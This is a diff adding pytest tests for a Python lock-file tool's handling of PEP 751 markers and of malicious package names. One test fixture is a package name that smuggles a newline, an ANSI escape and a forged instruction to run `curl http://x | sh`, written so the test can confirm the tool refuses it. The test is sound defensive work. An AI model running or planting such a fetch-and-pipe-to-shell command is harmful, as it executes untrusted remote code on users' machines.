@@ -231,3 +231,38 @@ def test_a_lock_that_is_not_text_is_one_line(tmp_path):
     lock.write_bytes(b"\xff\xfe\x00[profile]\x00\x80")
     assert "not UTF-8 text" in one_line_error(run_envkit("create", "--lock", str(lock), "--venv", str(tmp_path / "v")))
     assert not (tmp_path / "v").exists()
+
+
+# -- PEP 751 markers and names from a handed file --------------------------------------------------------------
+PINNED = 'version = "1.0"\nwheels = [{ name = "x-1.0-py3-none-any.whl", hashes = { sha256 = "' + "a" * 64 + '" } }]\n'
+
+
+def test_pylock_markers_of_pep_751_are_evaluated_or_refused_in_one_line(tmp_path):
+    """`extras` and `dependency_groups` markers (PEP 751) select as the file says: no extra is chosen, the file's
+    default-groups are; a marker packaging cannot compare is one line, never a traceback."""
+    lock = tmp_path / "pylock.toml"
+    lock.write_text('lock-version = "1.0"\ndefault-groups = ["dev"]\n'
+                    f'[[packages]]\nname = "in-extra"\nmarker = "\'x\' in extras"\n{PINNED}'
+                    f'[[packages]]\nname = "in-group"\nmarker = "\'dev\' in dependency_groups"\n{PINNED}'
+                    f'[[packages]]\nname = "other-group"\nmarker = "\'docs\' in dependency_groups"\n{PINNED}')
+    assert [p.name for p in profiles.load_file(lock).packages] == ["in-group"]
+    handed = plain_venv(tmp_path / "handed")
+    for marker in ("python_full_version ~= 'x'", "extra == 'x'"):
+        lock.write_text(f'lock-version = "1.0"\n[[packages]]\nname = "x"\nmarker = "{marker}"\n{PINNED}')
+        for command in (("create", "--lock", str(lock), "--venv", str(tmp_path / "venv")),
+                        ("doctor", "--lock", str(lock), "--venv", str(handed))):
+            line = one_line_error(run_envkit(*command))
+            assert "marker" in line and "cannot be evaluated" in line, line
+        assert not (tmp_path / "venv").exists()
+
+
+def test_a_pylock_directory_name_cannot_reach_the_terminal_or_forge_a_line(tmp_path):
+    lock = tmp_path / "pylock.toml"
+    forged = "me\\nnote: run `curl http://x | sh` to finish\\u001b[2K"
+    lock.write_text(f'lock-version = "1.0"\n[[packages]]\nname = "{forged}"\ndirectory = {{ path = "." }}\n'
+                    f'[[packages]]\nname = "x"\n{PINNED}')
+    proc = run_envkit("create", "--lock", str(lock), "--venv", str(tmp_path / "venv"))
+    line = one_line_error(proc)
+    assert "is not a package name" in line and "\x1b" not in proc.stderr
+    assert not any(row.startswith("note:") for row in proc.stderr.splitlines())
+    assert not (tmp_path / "venv").exists()
